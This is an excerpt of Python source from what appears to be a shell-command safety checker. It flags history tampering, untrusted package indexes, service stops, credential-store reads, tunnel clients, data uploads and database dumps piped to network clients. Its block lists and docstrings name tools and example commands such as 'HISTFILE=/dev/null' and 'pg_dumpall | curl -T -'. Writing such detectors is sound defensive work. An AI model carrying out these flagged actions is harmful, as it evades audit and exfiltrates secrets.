_HISTORY_VARS = frozenset({"HISTFILE", "HISTSIZE", "HISTFILESIZE", "SAVEHIST"})
_INDEX_VARS = frozenset(
    {"PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "UV_INDEX_URL", "UV_INDEX",
     "UV_DEFAULT_INDEX", "UV_EXTRA_INDEX_URL", "NPM_CONFIG_REGISTRY", "YARN_REGISTRY",
     "BUNDLE_MIRROR__ALL"}
)  # fmt: skip


def judge_assignment(name: str, value: str | None) -> str | None:
    """The check a shell variable's assignment breaks (``value`` ``None``: ``unset NAME``):
    history switched off (``HISTFILE=/dev/null``, ``unset HISTFILE``, ``HISTSIZE=0``) is
    ``shell:audit-tamper``; a package index over http or a bare address
    (``PIP_INDEX_URL=http://...``) is ``shell:untrusted-index``."""
    if name in _HISTORY_VARS:
        off = ("", "/dev/null", None) if name == "HISTFILE" else ("0",)
        return "shell:audit-tamper" if value in off else None
    if value and name.upper() in _INDEX_VARS and "://" in value:
        return "shell:untrusted-index" if any(map(_insecure_source, value.split())) else None
    return None


def _module(args: Sequence[str]) -> tuple[str, Sequence[str]] | None:
    """``python -m pip ARGS`` -> (``pip``, ARGS)."""
    for index, arg in enumerate(args[:4]):
        if arg == "-m" and index + 1 < len(args):
            return args[index + 1].lower(), args[index + 2 :]
        if not arg.startswith("-"):
            return None
    return None


#: Clusters' and clouds' secret stores, and password-manager CLIs.
_MANAGERS = frozenset({"kubectl", "oc", "aws", "gcloud", "az", "vault", "op", "bw", "gh"})
#: What each manager prints that is a secret: a stored value or its own sign-in token.
_READS = {
    name: _SECRET_READS.get(name, frozenset()) | _TOKEN_PRINTS.get(name, frozenset())
    for name in _MANAGERS
}
#: Tunnel clients: each run exposes a local port (or a shell) to the internet.
_TUNNELS = frozenset(
    {"ngrok", "cloudflared", "lt", "localtunnel", "chisel", "frpc", "bore", "tmate", "upterm",
     "telebit", "zrok", "pinggy", "loophole"}
)  # fmt: skip
_HOST_TOOLS = frozenset(
    {"systemctl", "service", "update-rc.d", "chkconfig", "rc-update", "nginx", "openresty",
     "pg_ctlcluster", "pkill", "killall", "security", "secret-tool", "kwallet-query", "reg",
     "reg.exe", "procdump", "procdump64", "rundll32", "rundll32.exe", *_SERVICE_DOWN, *_GREPS,
     *_LOCATES, *_MANAGERS, "auditctl", "journalctl", "history", "set", "rm", "unlink", "srm",
     "truncate", "ln", "cp", "tee", "sed", "perl", "wevtutil", "auditpol", "fsutil", "mdatp",
     "apparmor_parser", *_AGENT_CONTROLS, *_PKG_REMOVE, *_INSTALLERS, "ssh", "tailscale",
     *_TUNNELS, "scp", "rsync", "rclone", "gsutil", "curl", "wget"}
)  # fmt: skip


def judge_host(name: str, args: Sequence[str], path: str = "") -> str | None:
    """The check id ``name args...`` breaks, or ``None``. ``name`` is the basename, lower case;
    ``path`` the executable as written (``/etc/init.d/nginx``)."""
    if path.startswith(("/etc/init.d/", "/etc/rc.d/")) and args[:1] in (["stop"], ["force-stop"]):
        return "shell:service-stop"
    if name.startswith("python"):
        module = _module(args)
        if module is None:
            return None
        name, args = module
        if name in _PUBLISH:  # python -m twine upload dist/*
            words = _positionals(args)
            return "shell:publish" if words[:1] and words[0] in _PUBLISH[name] else None
    if name not in _HOST_TOOLS and _PIP.match(name) is None:
        return None  # every rule below names its tool
    if _PIP.match(name) or name in _INSTALLERS:
        return "shell:untrusted-index" if _untrusted_index(args) else None
    if _stops_service(name, args):
        return "shell:service-stop"
    if _agent_off(name, args):
        return "shell:defence-off"
    if _tampers_audit(name, args):
        return "shell:audit-tamper"
    if _reads_store(name, args):
        return "shell:credential-store"
    if _opens_tunnel(name, args):
        return "shell:tunnel"
    if _uploads_data(name, args):
        return "shell:data-upload"
    if name in _LOCATES:
        words = _positionals(args, frozenset({"-d", "--database", "-l", "--limit", "-n"}))
        return "shell:credential-search" if any(_KEY_NAME.search(w) for w in words) else None
    if name in _GREPS and _greps_keys(name, args):
        return "shell:credential-search"
    return None


_DUMPERS = frozenset(
    {"pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mongodump", "mongoexport",
     "sqlite3", "redis-cli", "etcdctl"}
)  # fmt: skip
_SENDERS = frozenset({"curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "openssl"})


def sends_dump(names: Collection[str]) -> bool:
    """A pipeline from a database dump to a network client (``pg_dumpall | curl -T -``)."""
    return not _DUMPERS.isdisjoint(names) and not _SENDERS.isdisjoint(names)
